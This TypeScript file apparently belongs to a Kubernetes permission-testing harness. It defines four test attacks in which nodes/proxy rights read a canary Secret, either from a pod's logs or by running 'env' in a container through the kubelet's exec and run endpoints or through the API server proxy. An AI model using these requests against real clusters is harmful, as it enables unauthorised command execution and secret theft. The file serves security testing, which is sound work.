import type { Attack } from "./attack.ts";
import { askKubelet, askThroughApiServer, canaryIn, execAtKubelet, run, shell } from "./real.ts";
import { runVictim, VICTIM } from "./streams.ts";
import { nodeOf, type Stage } from "./stage.ts";

/** A container on the real node that has the Secret. */
async function runReal(stage: Stage): Promise<void> {
  await run(stage, { containers: [shell("sleep 10000")] });
}

/** Runs a command without a stream: a POST that is answered with the output. */
const RUN = ({ namespace }: Stage): string => `/run/${namespace}/${VICTIM}/main?cmd=env`;

export const attacks: Attack[] = [
  {
    edge: "nodes-proxy",
    how: "get: the log of a pod that has printed the Secret",
    rights: (stage) => [stage.everywhere("get", "nodes/proxy", stage.machine.node)],
    arrange: (stage) => runVictim(stage),
    attack: async (stage) => {
      const path = `/api/v1/nodes/${stage.machine.node}/proxy/containerLogs/${stage.namespace}/${VICTIM}/main`;
      return String(await stage.send("GET", path));
    },
  },
  {
    edge: "nodes-proxy",
    // Through the API server an upgrade arrives without its query, and so without a command.
    how: "get: a command in a container that has the Secret, by a websocket to the kubelet's port",
    onRealNode: true,
    rights: (stage) => [stage.everywhere("get", "nodes/proxy", nodeOf(stage).name)],
    arrange: runReal,
    attack: async (stage) => canaryIn(stage, await execAtKubelet(stage, "command=env&output=1")),
  },
  {
    edge: "nodes-proxy",
    how: "create: a command in a container that has the Secret, at the kubelet's port",
    onRealNode: true,
    rights: (stage) => [stage.everywhere("create", "nodes/proxy", nodeOf(stage).name)],
    arrange: runReal,
    attack: async (stage) => canaryIn(stage, await askKubelet(stage, "POST", RUN(stage))),
  },
  {
    edge: "nodes-proxy",
    how: "create: a command in a container that has the Secret, through the API server",
    onRealNode: true,
    rights: (stage) => [stage.everywhere("create", "nodes/proxy", nodeOf(stage).name)],
    arrange: runReal,
    attack: async (stage) => canaryIn(stage, await askThroughApiServer(stage, "POST", RUN(stage))),
  },
];
